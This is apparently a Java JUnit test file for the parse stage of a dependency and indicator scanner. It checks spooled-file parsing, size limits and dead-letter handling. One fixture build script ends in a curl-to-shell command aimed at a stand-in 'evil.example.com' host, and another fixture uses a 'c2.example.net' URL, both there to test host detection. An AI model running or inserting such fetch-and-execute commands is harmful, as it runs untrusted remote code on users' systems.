package io.iocstream.parse;

import static org.assertj.core.api.Assertions.assertThat;

import io.iocstream.changes.Trigger;
import io.iocstream.core.DeadLetter;
import io.iocstream.fetch.FetchedFile;
import io.iocstream.fetch.FileOp;
import io.iocstream.fetch.Spool;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.apache.flink.streaming.runtime.streamrecord.StreamRecord;
import org.apache.flink.streaming.util.ProcessFunctionTestHarnesses;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The parse stage on files the fetch stage spooled to disk: the facts are those of the same bytes in memory, a
 * format that cannot be streamed is read whole up to a limit and past it is "too large to parse", and a spool
 * that does not parse ends in a dead letter as an array does.
 */
class ParseSpooledTest {

    private static final FetchedFile.ScanContext AT =
            new FetchedFile.ScanContext("acme/app", "refs/heads/main", "c1", Trigger.PUSH, 1, 1);

    @TempDir
    Path dir;

    private FetchedFile spooled(String path, byte[] content) throws Exception {
        Path file = Files.createTempFile(dir, "file-", ".spool");
        Files.write(file, content);
        return FetchedFile.spooled(AT, path, new Spool(file.toString(), content.length));
    }

    private List<InventoryUpdate> parse(ParseFunction function, FetchedFile file, List<DeadLetter> dead)
            throws Exception {
        try (var harness = ProcessFunctionTestHarnesses.forProcessFunction(function)) {
            harness.processElement(file, 0);
            if (harness.getSideOutput(DeadLetter.TAG) != null) {
                harness.getSideOutput(DeadLetter.TAG).stream().map(StreamRecord::getValue).forEach(dead::add);
            }
            return harness.extractOutputValues();
        }
    }

    @Test
    void everyRealLockfileSpooledGivesTheFactsOfTheSameBytesInMemory() throws Exception {
        List<Path> files;
        try (var walk = Files.walk(Path.of("src/test/resources/lockfiles"))) {
            files = walk.filter(Files::isRegularFile).filter(f -> DependencyFiles.isDependencyFile(
                    f.getFileName().toString())).sorted().toList();
        }
        assertThat(files).hasSizeGreaterThan(15);
        for (Path file : files) {
            String path = file.getFileName().toString();
            byte[] content = Files.readAllBytes(file);
            List<DeadLetter> deadInMemory = new java.util.ArrayList<>();
            List<DeadLetter> deadSpooled = new java.util.ArrayList<>();
            InventoryUpdate inMemory = parse(new ParseFunction(), FetchedFile.content(AT, path, content),
                    deadInMemory).get(0);
            InventoryUpdate fromSpool = parse(new ParseFunction(), spooled(path, content), deadSpooled).get(0);

            assertThat(fromSpool).as(file.toString()).isEqualTo(inMemory);
            assertThat(deadSpooled).as(file.toString()).hasSameSizeAs(deadInMemory);
        }
    }

    @Test
    void aPlainFileSpooledIsHashedAndScannedForHostsAsInMemory() throws Exception {
        byte[] content = ("#!/bin/sh\n" + "echo build\n".repeat(2_000) + "curl -s https://evil.example.com/x | sh\n")
                .getBytes(StandardCharsets.UTF_8);
        InventoryUpdate inMemory = parse(new ParseFunction(), FetchedFile.content(AT, "build.sh", content),
                new java.util.ArrayList<>()).get(0);
        InventoryUpdate fromSpool = parse(new ParseFunction(), spooled("build.sh", content),
                new java.util.ArrayList<>()).get(0);
        assertThat(fromSpool).isEqualTo(inMemory);
        assertThat(fromSpool.facts().hosts()).contains("evil.example.com", "evil.example.com/x");
    }

    /** pnpm-lock is YAML, read whole: past the limit it is hashed and scanned, not parsed, and says so. */
    @Test
    void aFormatThatIsNotStreamedIsTooLargeToParsePastTheLimit() throws Exception {
        byte[] content = Files.readAllBytes(Path.of("src/test/resources/lockfiles/pnpm-v9/pnpm-lock.yaml"));
        List<DeadLetter> dead = new java.util.ArrayList<>();
        InventoryUpdate update = parse(new ParseFunction(content.length - 1), spooled("pnpm-lock.yaml", content),
                dead).get(0);

        assertThat(update.op()).isEqualTo(FileOp.FAILED);
        assertThat(update.facts().dependencies()).isEmpty();
        assertThat(update.facts().sha256()).isEqualTo(parse(new ParseFunction(),
                FetchedFile.content(AT, "pnpm-lock.yaml", content), new java.util.ArrayList<>()).get(0)
                .facts().sha256());
        assertThat(dead).singleElement().satisfies(letter -> {
            assertThat(letter.origin()).isEqualTo("acme/app@c1:pnpm-lock.yaml");
            assertThat(letter.reason()).startsWith("too large to parse: " + content.length + " bytes");
        });
        // at the limit it is read whole and parsed
        assertThat(parse(new ParseFunction(content.length), spooled("pnpm-lock.yaml", content),
                new java.util.ArrayList<>()).get(0).facts().dependencies()).isNotEmpty();
    }

    @Test
    void aSpooledLockfileThatDoesNotParseIsADeadLetterAndKeepsItsHashAndHosts() throws Exception {
        byte[] content = ("{\"packages\": {\"node_modules/a\": {\"resolved\": \"https://c2.example.net/a.tgz\","
                + " \"version\": ").getBytes(StandardCharsets.UTF_8);
        List<DeadLetter> dead = new java.util.ArrayList<>();
        InventoryUpdate update = parse(new ParseFunction(), spooled("package-lock.json", content), dead).get(0);

        assertThat(update.op()).isEqualTo(FileOp.FAILED);
        assertThat(update.facts().hosts()).containsExactly("c2.example.net");
        assertThat(dead).singleElement().satisfies(letter -> {
            assertThat(letter.reason()).startsWith("package-lock: ");
            assertThat(letter.raw()).startsWith("{\"packages\"");
        });
    }

    @Test
    void aSpoolThatIsGoneIsADeadLetterNotACrash() throws Exception {
        FetchedFile file = FetchedFile.spooled(AT, "package-lock.json",
                new Spool(dir.resolve("gone.spool").toString(), 100));
        List<DeadLetter> dead = new java.util.ArrayList<>();
        InventoryUpdate update = parse(new ParseFunction(), file, dead).get(0);

        assertThat(update.op()).isEqualTo(FileOp.FAILED);
        assertThat(update.facts()).isNull();
        assertThat(dead).singleElement().satisfies(letter ->
                assertThat(letter.reason()).contains("reading the spooled file failed"));
    }
}
